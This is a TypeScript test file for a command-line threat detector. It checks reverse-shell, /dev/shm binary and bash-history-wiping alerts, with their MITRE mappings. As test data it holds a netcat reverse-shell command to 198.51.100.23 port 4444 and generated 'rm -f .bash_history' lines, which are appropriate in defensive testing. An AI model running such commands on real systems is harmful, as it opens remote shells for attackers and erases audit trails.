import { loadFixtures, runFixture, testDetector } from '@tripline/core/testing';
import { describe, expect, it } from 'vitest';
import { detector } from './detector.js';

const fixtures = loadFixtures(new URL('./fixtures', import.meta.url));
const fixture = (name: string) => [...fixtures.fires, ...fixtures.ignores].find((f) => f.name === name)!;

describe('defender/suspicious-command-line', () => {
  it('passes its fixtures', async () => {
    await testDetector(detector, fixtures);
  });

  it("flags the reverse shell a shell exec's into, with the exec chain and the exec variant", async () => {
    const result = await runFixture(detector, fixture('fires.dash-exec-nc.json'));
    const alert = result.alerts[0]!;
    expect(alert.key).toBe('reverse-shell');
    expect(alert.severity).toBe('high');
    expect(alert.mitre.map((m) => m.id)).toEqual(['T1059.004', 'T1095']);
    expect(alert.evidence.keyComponents['Command Lines']).toEqual([
      'sh -c "nc -e /bin/sh 198.51.100.23 4444"',
      'nc -e /bin/sh 198.51.100.23 4444',
    ]);
    expect(alert.title).toContain("exec'd");
  });

  it('maps /dev/shm binaries named like kernel threads to T1105 + T1036.005', async () => {
    const result = await runFixture(detector, fixture('fires.binary-in-dev-shm.json'));
    expect(result.alerts[0]!.mitre.map((m) => m.id)).toEqual(['T1036.005', 'T1105']);
  });

  it('groups by behaviour: one alert per device and behaviour', async () => {
    const result = await runFixture(detector, fixture('fires.history-wipe.json'));
    expect(result.alerts.map((a) => [a.key, a.evidence.eventCount])).toEqual([['history-clearing', 2]]);
    expect(result.alerts[0]!.evidence.keyComponents.Processes).toBe('2');
  });

  it('shows ten command lines and counts the rest, while the description counts them all', async () => {
    const wipe = fixture('fires.history-wipe.json');
    const first = wipe.records[0]!;
    const records = Array.from({ length: 12 }, (_, i) => ({
      ...first,
      properties: { ...first.properties, ReportId: 9000 + i, ProcessCommandLine: `rm -f /home/u${i}/.bash_history` },
    }));
    const alert = (await runFixture(detector, { ...wipe, records })).alerts[0]!;
    const lines = alert.evidence.keyComponents['Command Lines'] as readonly string[];
    expect(lines).toHaveLength(11);
    expect(lines[10]).toBe('(2 more)');
    expect(alert.description).toContain('(12 distinct command line(s))');
    expect(alert.evidence.keyComponents.Processes).toBe('12');
  });
});
